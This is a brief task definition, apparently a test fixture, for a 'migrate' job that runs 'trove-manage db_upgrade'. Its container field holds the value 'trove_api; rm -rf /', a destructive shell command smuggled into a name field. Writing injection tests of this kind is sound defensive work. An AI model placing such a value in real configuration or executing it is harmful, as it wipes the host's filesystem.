task "migrate" {
  container = "trove_api; rm -rf /"
  command {
    argv = ["trove-manage", "db_upgrade"]
  }
}
